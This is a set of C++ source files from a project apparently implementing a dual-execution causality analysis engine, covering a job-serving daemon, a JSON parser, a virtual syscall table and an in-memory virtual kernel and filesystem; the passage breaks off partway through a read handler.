     *  closed (in-flight queries still complete; ms). */
    std::uint64_t drainTimeoutMs = 30'000;

    /** Interpreter dispatch for every tenant VM. */
    vm::DispatchMode dispatch = vm::DispatchMode::Fused;

    /** Server version string echoed in the hello frame. */
    std::string version;

    /** Server-wide metrics registry (serve.*); the caller mounts
     *  the exporter over it. May be null. */
    obs::Registry *registry = nullptr;

    /** The SIGINT latch: when it flips, serve() drains and returns.
     *  Required. */
    const std::atomic<bool> *shutdown = nullptr;
};

/** The daemon. start() binds the socket; serve() blocks until the
 *  shutdown latch flips and the drain completes. */
class Server
{
  public:
    explicit Server(const ServeConfig &cfg);
    ~Server();

    Server(const Server &) = delete;
    Server &operator=(const Server &) = delete;

    /** Bind + listen. False (with @p error) on failure. */
    bool start(std::string *error);

    /** Accept/serve until the shutdown latch flips; returns 0 on a
     *  clean drain. */
    int serve();

    /** Jobs accepted over the server's lifetime (tests). */
    std::uint64_t jobsAccepted() const;
    /** Jobs rejected by admission control (tests). */
    std::uint64_t jobsRejected() const;

  private:
    struct Connection;

    void connectionLoop(std::shared_ptr<Connection> conn);
    void handleFrame(Connection &conn, const std::string &line);
    void handleSubmit(Connection &conn, const struct SubmitRequest &req);
    bool writeLine(Connection &conn, const std::string &frame);

    ServeConfig cfg_;
    int listenFd_ = -1;

    query::SharedPool pool_;
    query::ShardedResultCache cache_;

    /** Drain latch shared as every tenant campaign's cancel flag. */
    std::atomic<bool> drain_{false};

    mutable std::mutex mutex_;
    std::condition_variable idleCv_; ///< all connections closed
    std::vector<std::shared_ptr<Connection>> conns_;
    std::vector<std::thread> threads_;
    std::size_t openConns_ = 0;
    std::size_t activeJobs_ = 0;
    std::uint64_t connSeq_ = 0;
    std::atomic<std::uint64_t> jobsAccepted_{0};
    std::atomic<std::uint64_t> jobsRejected_{0};
};

} // namespace ldx::serve
