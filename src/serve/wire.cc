#include "serve/wire.h"

#include <cctype>
#include <cmath>
#include <cstdlib>

namespace ldx::serve {

namespace {

constexpr int kMaxDepth = 64;

/** Cursor over the input with a shared error slot. */
struct Parser
{
    const std::string &text;
    std::size_t pos = 0;
    std::string *error;

    bool
    fail(const std::string &why)
    {
        if (error && error->empty())
            *error = why + " at byte " + std::to_string(pos);
        return false;
    }

    void
    skipWs()
    {
        while (pos < text.size() &&
               (text[pos] == ' ' || text[pos] == '\t' ||
                text[pos] == '\n' || text[pos] == '\r'))
            ++pos;
    }

    bool
    consume(char c)
    {
        if (pos < text.size() && text[pos] == c) {
            ++pos;
            return true;
        }
        return false;
    }

    bool parseValue(JsonValue &out, int depth);
    bool parseString(std::string &out);
    bool parseNumber(JsonValue &out);
    bool parseLiteral(const char *lit, JsonValue &out,
                      JsonValue::Kind kind, bool boolean);
};

void
appendUtf8(std::string &out, unsigned cp)
{
    if (cp < 0x80) {
        out += static_cast<char>(cp);
    } else if (cp < 0x800) {
        out += static_cast<char>(0xC0 | (cp >> 6));
        out += static_cast<char>(0x80 | (cp & 0x3F));
    } else if (cp < 0x10000) {
        out += static_cast<char>(0xE0 | (cp >> 12));
        out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
        out += static_cast<char>(0x80 | (cp & 0x3F));
    } else {
        out += static_cast<char>(0xF0 | (cp >> 18));
        out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
        out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
        out += static_cast<char>(0x80 | (cp & 0x3F));
    }
}

bool
hex4(const std::string &text, std::size_t pos, unsigned &out)
{
    if (pos + 4 > text.size())
        return false;
    out = 0;
    for (int i = 0; i < 4; ++i) {
        char c = text[pos + i];
        out <<= 4;
        if (c >= '0' && c <= '9')
            out |= static_cast<unsigned>(c - '0');
        else if (c >= 'a' && c <= 'f')
            out |= static_cast<unsigned>(c - 'a' + 10);
        else if (c >= 'A' && c <= 'F')
            out |= static_cast<unsigned>(c - 'A' + 10);
        else
            return false;
    }
    return true;
}

bool
Parser::parseString(std::string &out)
{
    if (!consume('"'))
        return fail("expected string");
    out.clear();
    while (pos < text.size()) {
        char c = text[pos++];
        if (c == '"')
            return true;
        if (c == '\\') {
            if (pos >= text.size())
                return fail("unterminated escape");
            char e = text[pos++];
            switch (e) {
              case '"': out += '"'; break;
              case '\\': out += '\\'; break;
              case '/': out += '/'; break;
              case 'b': out += '\b'; break;
              case 'f': out += '\f'; break;
              case 'n': out += '\n'; break;
              case 'r': out += '\r'; break;
              case 't': out += '\t'; break;
              case 'u': {
                  unsigned cp = 0;
                  if (!hex4(text, pos, cp))
                      return fail("bad \\u escape");
                  pos += 4;
                  // Surrogate pair: a high surrogate must be followed
                  // by \uDC00..\uDFFF; combine into one code point.
                  if (cp >= 0xD800 && cp <= 0xDBFF) {
                      unsigned lo = 0;
                      if (pos + 2 > text.size() || text[pos] != '\\' ||
                          text[pos + 1] != 'u' ||
                          !hex4(text, pos + 2, lo) || lo < 0xDC00 ||
                          lo > 0xDFFF)
                          return fail("bad surrogate pair");
                      pos += 6;
                      cp = 0x10000 + ((cp - 0xD800) << 10) +
                           (lo - 0xDC00);
                  } else if (cp >= 0xDC00 && cp <= 0xDFFF) {
                      return fail("lone low surrogate");
                  }
                  appendUtf8(out, cp);
                  break;
              }
              default:
                return fail("unknown escape");
            }
            continue;
        }
        if (static_cast<unsigned char>(c) < 0x20)
            return fail("raw control character in string");
        out += c;
    }
    return fail("unterminated string");
}

bool
Parser::parseNumber(JsonValue &out)
{
    std::size_t start = pos;
    if (consume('-')) {
    }
    while (pos < text.size() &&
           (std::isdigit(static_cast<unsigned char>(text[pos])) ||
            text[pos] == '.' || text[pos] == 'e' || text[pos] == 'E' ||
            text[pos] == '+' || text[pos] == '-'))
        ++pos;
    if (pos == start)
        return fail("expected number");
    std::string num = text.substr(start, pos - start);
    char *end = nullptr;
    double v = std::strtod(num.c_str(), &end);
    if (end != num.c_str() + num.size() || !std::isfinite(v))
        return fail("malformed number");
    out.kind = JsonValue::Kind::Number;
    out.number = v;
    return true;
}

bool
Parser::parseLiteral(const char *lit, JsonValue &out,
                     JsonValue::Kind kind, bool boolean)
{
    std::size_t n = 0;
    while (lit[n])
        ++n;
    if (text.compare(pos, n, lit) != 0)
        return fail("unknown literal");
    pos += n;
    out.kind = kind;
    out.boolean = boolean;
    return true;
}

bool
Parser::parseValue(JsonValue &out, int depth)
{
    if (depth > kMaxDepth)
        return fail("nesting too deep");
    skipWs();
    if (pos >= text.size())
        return fail("unexpected end of input");
    char c = text[pos];
    if (c == '{') {
        ++pos;
        out.kind = JsonValue::Kind::Object;
        skipWs();
        if (consume('}'))
            return true;
        for (;;) {
            skipWs();
            std::string key;
            if (!parseString(key))
                return false;
            skipWs();
            if (!consume(':'))
                return fail("expected ':'");
            JsonValue v;
            if (!parseValue(v, depth + 1))
                return false;
            out.members.emplace_back(std::move(key), std::move(v));
            skipWs();
            if (consume(','))
                continue;
            if (consume('}'))
                return true;
            return fail("expected ',' or '}'");
        }
    }
    if (c == '[') {
        ++pos;
        out.kind = JsonValue::Kind::Array;
        skipWs();
        if (consume(']'))
            return true;
        for (;;) {
            JsonValue v;
            if (!parseValue(v, depth + 1))
                return false;
            out.items.push_back(std::move(v));
            skipWs();
            if (consume(','))
                continue;
            if (consume(']'))
                return true;
            return fail("expected ',' or ']'");
        }
    }
    if (c == '"') {
        out.kind = JsonValue::Kind::String;
        return parseString(out.str);
    }
    if (c == 't')
        return parseLiteral("true", out, JsonValue::Kind::Bool, true);
    if (c == 'f')
        return parseLiteral("false", out, JsonValue::Kind::Bool, false);
    if (c == 'n')
        return parseLiteral("null", out, JsonValue::Kind::Null, false);
    return parseNumber(out);
}

} // namespace

const JsonValue *
JsonValue::find(const std::string &key) const
{
    if (kind != Kind::Object)
        return nullptr;
    for (const auto &[k, v] : members)
        if (k == key)
            return &v;
    return nullptr;
}

std::string
JsonValue::stringOr(const std::string &key,
                    const std::string &fallback) const
{
    const JsonValue *v = find(key);
    return v && v->kind == Kind::String ? v->str : fallback;
}

std::uint64_t
JsonValue::uintOr(const std::string &key, std::uint64_t fallback) const
{
    const JsonValue *v = find(key);
    if (!v || v->kind != Kind::Number)
        return fallback;
    if (v->number < 0 || v->number != std::floor(v->number))
        return fallback;
    return static_cast<std::uint64_t>(v->number);
}

bool
JsonValue::boolOr(const std::string &key, bool fallback) const
{
    const JsonValue *v = find(key);
    return v && v->kind == Kind::Bool ? v->boolean : fallback;
}

std::optional<JsonValue>
parseJson(const std::string &text, std::string *error)
{
    if (error)
        error->clear();
    Parser p{text, 0, error};
    JsonValue out;
    if (!p.parseValue(out, 0))
        return std::nullopt;
    p.skipWs();
    if (p.pos != text.size()) {
        p.fail("trailing content");
        return std::nullopt;
    }
    return out;
}

} // namespace ldx::serve
