/**
 * @file
 * `ldx submit` — the client side of the `ldx-serve-v1` protocol
 * (docs/SERVE.md "Submitting jobs").
 *
 * Connects to a running `ldx serve` daemon, submits one job, streams
 * verdict frames as they arrive, and exits with the same code the
 * offline `ldx campaign` would have produced (the daemon computes it
 * from the identical campaign result). `--graph-out` writes the
 * streamed graph verbatim — byte-identical to the offline artifact.
 */
#pragma once

#include <iosfwd>
#include <string>

#include "serve/protocol.h"

namespace ldx::serve {

/** One `ldx submit` invocation. */
struct SubmitOptions
{
    std::string socketPath; ///< daemon socket (required)
    SubmitRequest request;  ///< the job to submit

    /** Write the streamed graph JSON here ("" = don't). */
    std::string graphOut;

    /** Print each verdict frame as it arrives (--stream). */
    bool stream = false;
};

/**
 * Submit one job and wait for its terminal frame.
 *
 * Returns the job's campaign exit code (0 no causality, 1 causality,
 * 3 failed queries), 2 on connect/usage/rejection, or 3 when the
 * server drained or the connection dropped before the job finished.
 */
int runSubmit(const SubmitOptions &opts, std::ostream &out,
              std::ostream &err);

} // namespace ldx::serve
