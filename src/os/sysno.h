/**
 * @file
 * Virtual syscall numbering and per-syscall metadata.
 *
 * The dual-execution engine treats this table as the coupling
 * boundary: every syscall is classified as input (outcome copyable
 * from master to slave), output (sinkable; slave suppresses external
 * effect), local (always executed independently by both executions —
 * e.g. thread creation, cf. §4.2 "some special syscalls are always
 * executed independently"), or sync (pthread-style operations treated
 * as syscalls, §7).
 */
#pragma once

#include <cstdint>
#include <string>

namespace ldx::os {

/** Virtual syscall numbers. */
enum class Sys : std::int64_t
{
    Open = 1,     ///< open(path, flags) -> fd
    Read,         ///< read(fd, buf, n) -> nread
    Write,        ///< write(fd, buf, n) -> n
    Close,        ///< close(fd)
    Lseek,        ///< lseek(fd, off, whence)
    Socket,       ///< socket() -> fd
    Connect,      ///< connect(fd, host_str)
    Send,         ///< send(fd, buf, n) -> n
    Recv,         ///< recv(fd, buf, cap) -> nread
    Listen,       ///< listen(fd, port)
    Accept,       ///< accept(fd) -> conn_fd (-1 when queue empty)
    Mkdir,        ///< mkdir(path)
    Rmdir,        ///< rmdir(path)
    Unlink,       ///< unlink(path)
    Rename,       ///< rename(old, new)
    Stat,         ///< stat(path, out16) -> 0/-1; writes {size, mtime}
    Time,         ///< time() -> virtual seconds
    Rdtsc,        ///< rdtsc() -> virtual cycle counter (nondeterministic)
    Random,       ///< random() -> prng draw (nondeterministic)
    GetPid,       ///< getpid() -> pid (differs across executions)
    GetEnv,       ///< getenv(name, out, cap) -> len or -1
    Print,        ///< print(buf, n) -> n (console output)
    Exit,         ///< exit(code) (never returns)
    ThreadCreate, ///< thread_create(fnptr, arg) -> tid
    ThreadJoin,   ///< thread_join(tid) -> thread return value
    MutexLock,    ///< mutex_lock(id)
    MutexUnlock,  ///< mutex_unlock(id)
    Yield,        ///< yield()
    NumSyscalls
};

/** Coupling class of a syscall (see file comment). */
enum class SysClass : std::uint8_t
{
    Input,   ///< outcome copyable master -> slave
    Output,  ///< externally visible; default sink candidate
    Local,   ///< always executed independently in both executions
    Sync     ///< pthread-style synchronization (VM-level semantics)
};

/** Static description of one syscall. */
struct SysDesc
{
    Sys no;
    const char *name;
    SysClass klass;
    int numArgs;
    /**
     * Index of the argument holding the address of an output buffer
     * the kernel writes into (-1 when none). The replay path stores
     * the master's bytes at the slave's own buffer address.
     */
    int outBufArg;
    /** Index of the argument holding an input payload address (-1). */
    int inBufArg;
    /** Index of the length argument paired with in/out buffer (-1). */
    int lenArg;
    /** Index of a NUL-terminated path/string argument (-1). */
    int pathArg;
    /** Second path argument (Rename) (-1). */
    int pathArg2;
};

/** Lookup table entry for @p no. Panics on unknown numbers. */
const SysDesc &sysDesc(Sys no);

/** Convenience: descriptor from a raw syscall number. */
const SysDesc &sysDesc(std::int64_t no);

/** Name string for diagnostics. */
std::string sysName(std::int64_t no);

/** True if @p no is a valid syscall number. */
bool isValidSys(std::int64_t no);

} // namespace ldx::os
