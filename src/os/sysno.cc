#include "os/sysno.h"

#include <array>

#include "support/diag.h"

namespace ldx::os {

namespace {

// no, name, class, numArgs, outBuf, inBuf, len, path, path2
constexpr std::array<SysDesc, 28> kTable = {{
    {Sys::Open,         "open",    SysClass::Input,  2, -1, -1, -1,  0, -1},
    {Sys::Read,         "read",    SysClass::Input,  3,  1, -1,  2, -1, -1},
    {Sys::Write,        "write",   SysClass::Output, 3, -1,  1,  2, -1, -1},
    {Sys::Close,        "close",   SysClass::Input,  1, -1, -1, -1, -1, -1},
    {Sys::Lseek,        "lseek",   SysClass::Input,  3, -1, -1, -1, -1, -1},
    {Sys::Socket,       "socket",  SysClass::Input,  0, -1, -1, -1, -1, -1},
    {Sys::Connect,      "connect", SysClass::Input,  2, -1, -1, -1,  1, -1},
    {Sys::Send,         "send",    SysClass::Output, 3, -1,  1,  2, -1, -1},
    {Sys::Recv,         "recv",    SysClass::Input,  3,  1, -1,  2, -1, -1},
    {Sys::Listen,       "listen",  SysClass::Input,  2, -1, -1, -1, -1, -1},
    {Sys::Accept,       "accept",  SysClass::Input,  1, -1, -1, -1, -1, -1},
    {Sys::Mkdir,        "mkdir",   SysClass::Input,  1, -1, -1, -1,  0, -1},
    {Sys::Rmdir,        "rmdir",   SysClass::Input,  1, -1, -1, -1,  0, -1},
    {Sys::Unlink,       "unlink",  SysClass::Input,  1, -1, -1, -1,  0, -1},
    {Sys::Rename,       "rename",  SysClass::Input,  2, -1, -1, -1,  0,  1},
    {Sys::Stat,         "stat",    SysClass::Input,  2,  1, -1, -1,  0, -1},
    {Sys::Time,         "time",    SysClass::Input,  0, -1, -1, -1, -1, -1},
    {Sys::Rdtsc,        "rdtsc",   SysClass::Input,  0, -1, -1, -1, -1, -1},
    {Sys::Random,       "random",  SysClass::Input,  0, -1, -1, -1, -1, -1},
    {Sys::GetPid,       "getpid",  SysClass::Input,  0, -1, -1, -1, -1, -1},
    {Sys::GetEnv,       "getenv",  SysClass::Input,  3,  1, -1,  2,  0, -1},
    {Sys::Print,        "print",   SysClass::Output, 2, -1,  0,  1, -1, -1},
    {Sys::Exit,         "exit",    SysClass::Local,  1, -1, -1, -1, -1, -1},
    {Sys::ThreadCreate, "thread_create",
                                   SysClass::Local,  2, -1, -1, -1, -1, -1},
    {Sys::ThreadJoin,   "thread_join",
                                   SysClass::Local,  1, -1, -1, -1, -1, -1},
    {Sys::MutexLock,    "mutex_lock",
                                   SysClass::Sync,   1, -1, -1, -1, -1, -1},
    {Sys::MutexUnlock,  "mutex_unlock",
                                   SysClass::Sync,   1, -1, -1, -1, -1, -1},
    {Sys::Yield,        "yield",   SysClass::Local,  0, -1, -1, -1, -1, -1},
}};

} // namespace

const SysDesc &
sysDesc(Sys no)
{
    for (const SysDesc &d : kTable) {
        if (d.no == no)
            return d;
    }
    panic("unknown syscall number " +
          std::to_string(static_cast<std::int64_t>(no)));
}

const SysDesc &
sysDesc(std::int64_t no)
{
    return sysDesc(static_cast<Sys>(no));
}

std::string
sysName(std::int64_t no)
{
    if (!isValidSys(no))
        return "sys#" + std::to_string(no);
    return sysDesc(no).name;
}

bool
isValidSys(std::int64_t no)
{
    for (const SysDesc &d : kTable) {
        if (static_cast<std::int64_t>(d.no) == no)
            return true;
    }
    return false;
}

} // namespace ldx::os
