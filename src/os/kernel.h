/**
 * @file
 * Virtual kernel: executes syscalls against a per-execution world
 * copy. Two entry points matter to dual execution:
 *
 *  - execute(): run the syscall for real against this kernel's world
 *    (the master always does this; the slave does when decoupled);
 *  - replay(): impose the master's recorded outcome on this kernel
 *    (the slave's path while coupled). Replay both deposits the
 *    recorded bytes and applies the equivalent state transition to
 *    the slave's world clone so a later decoupling finds a
 *    consistent world ("the file needs to be cloned, opened, and
 *    seeked to the right position", §4.2).
 *
 * Thread/mutex/yield syscalls are scheduling concerns and are handled
 * by the VM, not here.
 */
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "obs/scope.h"
#include "os/memaccess.h"
#include "os/sysno.h"
#include "os/vfs.h"
#include "os/world.h"
#include "support/prng.h"

namespace ldx::os {

/** Result of a syscall: return value plus any out-buffer bytes. */
struct Outcome
{
    std::int64_t ret = 0;
    std::string data;        ///< bytes for the out-buffer argument
    std::int64_t stamp = 0;  ///< issuing kernel's clock (for mtimes)
    bool exited = false;     ///< program called exit()
};

/**
 * Deterministic virtual latency of one completed syscall, in ticks:
 * a base cost per coupling class plus the payload bytes moved. Pure
 * function of (syscall number, outcome) — it never advances the
 * kernel clock (the clock feeds Outcome stamps and would perturb
 * verdicts). Used by the guest-level profiler to attribute syscall
 * cost to sites (obs::SiteCounters::sysTicks).
 */
std::int64_t virtualSyscallCost(std::int64_t no, const Outcome &out);

/** One externally visible output (journal entry). */
struct OutputRecord
{
    std::int64_t sysNo = 0;
    std::string channel;  ///< "file:<path>", "net:<host>", "console"
    std::string payload;
    bool suppressed = false; ///< slave-side output (not external)
};

/**
 * Kernel operation tallies, grouped by syscall number (a Read on a
 * socket fd still counts as a VFS op — the grouping is static).
 */
struct KernelStats
{
    std::uint64_t executes = 0;   ///< execute() calls
    std::uint64_t replays = 0;    ///< replay() calls
    std::uint64_t vfsOps = 0;     ///< open/read/write/stat/... family
    std::uint64_t sockOps = 0;    ///< socket/connect/send/recv/...
    std::uint64_t consoleOps = 0; ///< print
    std::uint64_t nondetOps = 0;  ///< time/rdtsc/random/getpid/getenv
};

/** Per-execution virtual kernel. */
class Kernel
{
  public:
    explicit Kernel(const WorldSpec &spec);

    /** Execute @p no with @p args for real. */
    Outcome execute(std::int64_t no, const std::vector<std::int64_t> &args,
                    MemAccess &mem);

    /**
     * Impose @p out (recorded by the peer execution) for @p no.
     * Returns false when the local world cannot follow the transition
     * (divergence) — the caller should taint the resource and fall
     * back to execute().
     */
    bool replay(std::int64_t no, const std::vector<std::int64_t> &args,
                const Outcome &out, MemAccess &mem);

    /**
     * Stable taint key of the resource @p no touches, or empty when
     * the syscall has no taintable resource (clock, pid, ...).
     */
    std::string resourceKey(std::int64_t no,
                            const std::vector<std::int64_t> &args,
                            const MemAccess &mem) const;

    /**
     * Canonical sink payload for output syscalls: channel plus the
     * bytes being emitted. Empty for non-output syscalls.
     */
    std::string sinkPayload(std::int64_t no,
                            const std::vector<std::int64_t> &args,
                            const MemAccess &mem) const;

    /** When true, outputs are journaled as suppressed (slave mode). */
    void setSuppressOutputs(bool v) { suppressOutputs_ = v; }

    /** Attach observability: "output" trace instants on @p lane. */
    void
    setObs(obs::Scope *scope, int lane)
    {
        obs_ = scope;
        obsLane_ = lane;
    }

    /** Operation tallies since construction. */
    const KernelStats &stats() const { return stats_; }

    /** Advance the virtual clock by @p n executed instructions. */
    void tickInstructions(std::uint64_t n) { instrTicks_ += n; }

    bool exited() const { return exited_; }
    std::int64_t exitCode() const { return exitCode_; }

    const std::vector<OutputRecord> &outputs() const { return journal_; }
    const Vfs &vfs() const { return vfs_; }
    Vfs &vfs() { return vfs_; }
    const WorldSpec &spec() const { return spec_; }

    /** Heap segment base jitter for this execution's VM. */
    std::uint64_t heapBaseJitter() const { return spec_.heapBaseJitter; }

    /**
     * Swap this kernel's world for @p spec mid-execution (snapshot
     * forking: the forked slave keeps the shared prefix state but its
     * world must reflect a different mutation policy). Re-installs
     * VFS content for files whose bytes changed and rewrites the
     * inbound request of accepted-but-unread server connections; all
     * other world reads (peers, env, incoming, nondet params) go
     * through spec_ lazily and need no fixup. Sound only while no
     * syscall has consumed a changed resource — the campaign's
     * snapshot trigger pauses before the first such touch.
     */
    void patchWorld(const WorldSpec &spec);

  private:
    struct Fd
    {
        enum class Kind
        {
            File, SocketFresh, SocketConn, SocketListen, SocketServerConn
        };
        Kind kind = Kind::File;
        std::string path;        ///< File
        std::int64_t offset = 0; ///< File read/write or request offset
        std::int64_t flags = 0;  ///< Open flags
        std::string host;        ///< SocketConn peer
        std::size_t respIdx = 0; ///< next scripted response
        std::string echoBuf;     ///< last sent payload (echo peers)
        std::string request;     ///< SocketServerConn inbound bytes
        std::size_t incomingIdx = 0; ///< spec_.incoming slot accepted
    };

    std::int64_t now() const;
    std::int64_t arg(const std::vector<std::int64_t> &a, int i) const;
    void accountOp(std::int64_t no);
    void journalOutput(std::int64_t no, const std::string &channel,
                       const std::string &payload);
    std::string channelOfFd(std::int64_t fd) const;

    Outcome doOpen(const std::vector<std::int64_t> &args, MemAccess &mem,
                   std::optional<std::int64_t> forced_fd);
    Outcome doRead(Fd &fd, std::int64_t cap);
    Outcome doWrite(std::int64_t fdno, Fd &fd, const std::string &payload,
                    std::int64_t stamp);
    Outcome doAccept(std::optional<std::int64_t> forced_fd);

    WorldSpec spec_;
    Vfs vfs_;
    std::map<std::int64_t, Fd> fds_;
    std::int64_t nextFd_ = 3;
    std::size_t nextIncoming_ = 0;
    std::vector<OutputRecord> journal_;
    Prng randomPrng_;
    Prng rdtscPrng_;
    std::int64_t clockQueries_ = 0;
    std::uint64_t instrTicks_ = 0;
    bool suppressOutputs_ = false;
    bool exited_ = false;
    std::int64_t exitCode_ = 0;
    KernelStats stats_;
    obs::Scope *obs_ = nullptr;
    int obsLane_ = 0;
};

} // namespace ldx::os
