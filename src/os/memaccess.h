/**
 * @file
 * Abstract view of guest memory the kernel uses to read syscall
 * payloads and deposit results. Implemented by vm::Memory.
 */
#pragma once

#include <cstdint>
#include <string>

namespace ldx::os {

/** Byte-level guest memory accessor. */
class MemAccess
{
  public:
    virtual ~MemAccess() = default;

    /** Read @p n bytes at @p addr. Traps (throws) on bad addresses. */
    virtual std::string readBytes(std::uint64_t addr, std::uint64_t n)
        const = 0;

    /** Write @p data at @p addr. */
    virtual void writeBytes(std::uint64_t addr, const std::string &data) = 0;

    /** Read a NUL-terminated string at @p addr (bounded). */
    virtual std::string readCString(std::uint64_t addr,
                                    std::uint64_t max_len = 4096) const = 0;
};

} // namespace ldx::os
