/**
 * @file
 * In-memory virtual filesystem. Each execution (master / slave) owns a
 * deep copy, which is what makes the paper's copy-on-divergence rule
 * (§7 "Light-weight Resource Tainting") cheap to realize: the slave's
 * world starts as an exact clone and only drifts where executions
 * decouple.
 */
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

namespace ldx::os {

/** File metadata reported by stat(). */
struct FileStat
{
    std::int64_t size = 0;
    std::int64_t mtime = 0;
};

/** A tree-less VFS keyed by absolute normalized paths. */
class Vfs
{
  public:
    Vfs();

    /** Normalize a path: ensure leading '/', squeeze '//', drop "/.". */
    static std::string normalize(const std::string &path);

    bool exists(const std::string &path) const;
    bool isDir(const std::string &path) const;
    bool isFile(const std::string &path) const;

    /** Create or truncate a regular file. Parent must exist. */
    bool createFile(const std::string &path, std::int64_t mtime);

    /** Create a directory. Parent must exist; path must be fresh. */
    bool mkdir(const std::string &path, std::int64_t mtime);

    /** Remove an empty directory. */
    bool rmdir(const std::string &path);

    /** Remove a regular file. */
    bool unlink(const std::string &path);

    /** Rename a file or directory subtree. */
    bool rename(const std::string &from, const std::string &to,
                std::int64_t mtime);

    /** File content accessors; file must exist. */
    const std::string &content(const std::string &path) const;
    void setContent(const std::string &path, std::string data,
                    std::int64_t mtime);
    void appendContent(const std::string &path, const std::string &data,
                       std::int64_t mtime);

    /** stat(); nullopt when the path does not exist. */
    std::optional<FileStat> stat(const std::string &path) const;

    /** Install a file, creating parent directories (world setup). */
    void installFile(const std::string &path, std::string data);

    /** All paths, sorted (for tests and world diffing). */
    std::vector<std::string> listAll() const;

  private:
    struct Node
    {
        bool is_dir = false;
        std::string data;
        std::int64_t mtime = 0;
    };

    static std::string parentOf(const std::string &path);
    bool hasChildren(const std::string &path) const;

    std::map<std::string, Node> nodes_;
};

} // namespace ldx::os
