#include "os/kernel.h"

#include <algorithm>

#include "support/diag.h"

namespace ldx::os {

std::int64_t
virtualSyscallCost(std::int64_t no, const Outcome &out)
{
    const SysDesc &d = sysDesc(no);
    std::int64_t base = 0;
    switch (d.klass) {
      case SysClass::Input: base = 250; break;  // world probe
      case SysClass::Output: base = 400; break; // external effect
      case SysClass::Local: base = 120; break;  // thread machinery
      case SysClass::Sync: base = 60; break;    // lock handoff
    }
    std::int64_t payload = static_cast<std::int64_t>(out.data.size());
    if (payload == 0 && d.klass == SysClass::Output && out.ret > 0)
        payload = out.ret; // writes move bytes without an out-buffer
    return base + payload;
}

Kernel::Kernel(const WorldSpec &spec)
    : spec_(spec), randomPrng_(spec.randomSeed), rdtscPrng_(spec.rdtscSeed)
{
    for (const auto &[path, data] : spec.files)
        vfs_.installFile(path, data);
}

std::int64_t
Kernel::now() const
{
    return spec_.clockBase + clockQueries_ * spec_.clockStepPerQuery +
           static_cast<std::int64_t>(instrTicks_ / 10000);
}

std::int64_t
Kernel::arg(const std::vector<std::int64_t> &a, int i) const
{
    if (i < 0 || i >= static_cast<int>(a.size()))
        return 0;
    return a[i];
}

void
Kernel::journalOutput(std::int64_t no, const std::string &channel,
                      const std::string &payload)
{
    OutputRecord rec;
    rec.sysNo = no;
    rec.channel = channel;
    rec.payload = payload;
    rec.suppressed = suppressOutputs_;
    journal_.push_back(std::move(rec));
    if (obs_ && obs_->recorder()) {
        obs::RecEvent evt;
        evt.kind = obs::RecKind::Output;
        evt.sysNo = no;
        evt.arg = obs::fnv1a(payload);
        obs_->record(obsLane_, evt);
    }
    if (obs_ && obs_->tracing()) {
        obs::TraceRecord trec;
        trec.name = "output";
        trec.lane = obsLane_;
        trec.numArgs = {{"sys", no},
                        {"bytes",
                         static_cast<std::int64_t>(payload.size())},
                        {"suppressed", suppressOutputs_ ? 1 : 0}};
        trec.strArgs = {{"channel", channel}};
        obs_->emit(std::move(trec));
    }
}

void
Kernel::accountOp(std::int64_t no)
{
    switch (static_cast<Sys>(no)) {
      case Sys::Open:
      case Sys::Read:
      case Sys::Write:
      case Sys::Close:
      case Sys::Lseek:
      case Sys::Mkdir:
      case Sys::Rmdir:
      case Sys::Unlink:
      case Sys::Rename:
      case Sys::Stat:
        ++stats_.vfsOps;
        break;
      case Sys::Socket:
      case Sys::Connect:
      case Sys::Send:
      case Sys::Recv:
      case Sys::Listen:
      case Sys::Accept:
        ++stats_.sockOps;
        break;
      case Sys::Print:
        ++stats_.consoleOps;
        break;
      case Sys::Time:
      case Sys::Rdtsc:
      case Sys::Random:
      case Sys::GetPid:
      case Sys::GetEnv:
        ++stats_.nondetOps;
        break;
      default:
        break;
    }
}

std::string
Kernel::channelOfFd(std::int64_t fdno) const
{
    auto it = fds_.find(fdno);
    if (it == fds_.end())
        return "fd:" + std::to_string(fdno);
    const Fd &fd = it->second;
    switch (fd.kind) {
      case Fd::Kind::File:
        return "file:" + fd.path;
      case Fd::Kind::SocketConn:
        return "net:" + fd.host;
      case Fd::Kind::SocketServerConn:
        return "net:client";
      case Fd::Kind::SocketFresh:
      case Fd::Kind::SocketListen:
        return "net:unbound";
    }
    return "fd:" + std::to_string(fdno);
}

Outcome
Kernel::doOpen(const std::vector<std::int64_t> &args, MemAccess &mem,
               std::optional<std::int64_t> forced_fd)
{
    Outcome out;
    out.stamp = now();
    std::string path =
        Vfs::normalize(mem.readCString(
            static_cast<std::uint64_t>(arg(args, 0))));
    std::int64_t flags = arg(args, 1);
    if (flags == 0) { // read
        if (!vfs_.isFile(path)) {
            out.ret = -1;
            return out;
        }
    } else { // write (1: truncate/create, 2: append)
        if (vfs_.isDir(path)) {
            out.ret = -1;
            return out;
        }
        if (!vfs_.isFile(path) || flags == 1) {
            if (!vfs_.createFile(path, out.stamp)) {
                out.ret = -1;
                return out;
            }
        }
    }
    std::int64_t fdno = forced_fd ? *forced_fd : nextFd_++;
    if (forced_fd)
        nextFd_ = std::max(nextFd_, fdno + 1);
    Fd fd;
    fd.kind = Fd::Kind::File;
    fd.path = path;
    fd.flags = flags;
    fd.offset = flags == 2
        ? static_cast<std::int64_t>(vfs_.content(path).size()) : 0;
    fds_[fdno] = std::move(fd);
    out.ret = fdno;
    return out;
}

Outcome
Kernel::doRead(Fd &fd, std::int64_t cap)
{
    Outcome out;
    out.stamp = now();
    if (cap < 0)
        cap = 0;
    switch (fd.kind) {
      case Fd::Kind::File: {
        const std::string &content = vfs_.content(fd.path);
        std::int64_t avail =
            std::max<std::int64_t>(0,
                static_cast<std::int64_t>(content.size()) - fd.offset);
        std::int64_t n = std::min(cap, avail);
        out.data = content.substr(static_cast<std::size_t>(fd.offset),
                                  static_cast<std::size_t>(n));
        fd.offset += n;
        out.ret = n;
        return out;
      }
      case Fd::Kind::SocketServerConn: {
        std::int64_t avail =
            std::max<std::int64_t>(0,
                static_cast<std::int64_t>(fd.request.size()) - fd.offset);
        std::int64_t n = std::min(cap, avail);
        out.data = fd.request.substr(static_cast<std::size_t>(fd.offset),
                                     static_cast<std::size_t>(n));
        fd.offset += n;
        out.ret = n;
        return out;
      }
      case Fd::Kind::SocketConn: {
        auto pit = spec_.peers.find(fd.host);
        if (pit == spec_.peers.end()) {
            out.ret = -1;
            return out;
        }
        const PeerScript &peer = pit->second;
        std::string resp;
